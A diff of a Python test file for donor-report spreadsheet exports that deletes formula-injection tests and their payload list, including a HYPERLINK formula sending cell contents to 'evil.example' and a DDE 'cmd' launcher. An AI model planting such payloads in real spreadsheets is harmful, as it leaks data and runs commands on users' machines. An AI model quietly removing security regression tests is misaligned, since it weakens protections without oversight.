@@ -9,7 +9,6 @@ from zipfile import ZipFile
 
 import pytest
 from openpyxl import Workbook, load_workbook
-from openpyxl.cell.cell import Cell
 from openpyxl.worksheet.worksheet import Worksheet
 
 from exports import DONOR_REPORTS, DonorReport
@@ -17,20 +16,7 @@ from exports.cached_values import FormulaWithoutValue, SheetParts, put_values
 from exports.statement import FinancialStatement
 from exports.workbook import DRAFT, Book
 from tests.exports import statements
-from tests.exports.recalculate import formulas
 from tests.exports.sheets import open_sheet, transactions
-
-ATTACKS = (
-    '=HYPERLINK("http://evil.example/"&A1,"open")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1",
-    "=cmd|' /C calc'!A0",
-    "#REF!",
-    "0123",
-    "1e5",
-)
 
 
 @pytest.fixture(params=list(DONOR_REPORTS))
@@ -52,22 +38,6 @@ def described(text: str) -> FinancialStatement:
     lines = tuple(replace(it, explanation=text, unit=text, description=text) for it in made.lines)
     award = replace(made.award, title=text, donor_reference=text)
     return replace(made, award=award, lines=lines, transactions=(hostile, *rest), network=text, notes=(text,))
-
-
-@pytest.mark.parametrize("text", ATTACKS)
-def test_a_text_is_a_text_whatever_it_begins_with(report: DonorReport, text: str) -> None:
-    hostile, harmless = report.write(described(text)), report.write(described("harmless"))
-    assert formulas(hostile).keys() == formulas(harmless).keys()
-    cells = [cell for sheet in sheets(hostile) for row in sheet for cell in row if cell.value == text]
-    assert len(cells) >= 5
-    assert {cell.data_type for cell in cells} == {"s"}
-
-
-def test_a_text_that_looks_like_a_formula_stays_one_when_somebody_edits_it(report: DonorReport) -> None:
-    cells = [cell for sheet in sheets(report.write(described("=1+1"))) for row in sheet for cell in row]
-    attacked = [cell for cell in cells if isinstance(cell, Cell) and cell.value == "=1+1"]
-    assert attacked
-    assert all(cell.quotePrefix for cell in attacked)
 
 
 def test_characters_that_break_a_file_are_left_out(report: DonorReport) -> None:
